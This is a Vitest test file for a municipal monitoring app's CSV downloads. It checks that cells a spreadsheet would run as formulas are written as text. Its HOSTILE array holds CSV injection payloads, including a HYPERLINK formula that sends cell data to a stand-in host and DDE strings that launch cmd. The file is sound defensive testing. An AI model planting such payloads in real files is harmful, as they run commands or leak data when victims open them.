import { describe, expect, it } from 'vitest';
import type { MonitorReport, ReportTable } from '../../src/insights/report/reportModel.js';
import { reportCsv, tableCsv } from '../../src/insights/report/renderText.js';

/**
 * The monitor's CSV downloads carry names that partners and the redactie write: voorzieningen,
 * beheerders, sociale-kaart terms. A spreadsheet program runs a cell that starts with `=`, `+`,
 * `-` or `@` as a formula (`=HYPERLINK(…)` sends data away when clicked, DDE starts programs), so
 * a partner could plant one in the file a policy officer opens. Such a text cell starts with an
 * apostrophe, which spreadsheets show as text (OWASP, "CSV Injection"); numbers stay numbers.
 */

const HOSTILE = [
  '=HYPERLINK("https://x.example/?d="&A2;"Klik")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
];

function table(labels: readonly string[]): ReportTable {
  return {
    id: 'voorzieningen-getoond',
    title: 'Getoonde voorzieningen',
    columns: [{ id: 'getoond', label: '=kolom' }],
    rows: labels.map((label, index) => ({
      id: `r${index}`,
      label,
      cells: [{ value: index === 0 ? -3 : 7, text: '7' }],
    })),
    chart: 'none',
  };
}

/** The fields of one CSV line (the format is simple: quoted when needed, "" inside quotes). */
function fields(line: string): string[] {
  return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((match) => {
    const raw = match[1] ?? '';
    return raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw;
  });
}

describe('CSV downloads of the monitor', () => {
  it('write every text cell that a spreadsheet would run as a formula as text', () => {
    const csv = tableCsv(table([...HOSTILE, 'Formulierenbrigade']));
    const lines = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    const cells = lines.flatMap((line) => fields(line));
    const texts = cells.filter((cell) => !/^-?\d+$/.test(cell));
    for (const cell of texts) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${HOSTILE[0]}`);
    expect(cells).toContain('Formulierenbrigade');
    // A count stays a number, also a negative one.
    expect(cells).toContain('-3');
  });

  it('does the same in the long CSV of the whole report', () => {
    const report: MonitorReport = {
      title: 'Monitor',
      period: { id: '2026-11', label: 'november 2026', from: '2026-11-01', to: '2026-11-30' },
      area: { id: 'stad', label: 'Enschede' },
      city: 'heel Enschede',
      granularity: 'week',
      generatedOn: '2026-12-02',
      minCell: 5,
      marker: 'x',
      sections: [{ id: 'vragen', title: 'Vragen', intro: '', tables: [table(HOSTILE)] }],
    };
    const cells = reportCsv(report)
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .flatMap((line) => fields(line));
    // The hostile table is in the report, made harmless, not left out.
    expect(cells).toContain(`'${HOSTILE[0]}`);
    for (const cell of cells.filter((value) => !/^-?\d+$/.test(value))) {
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
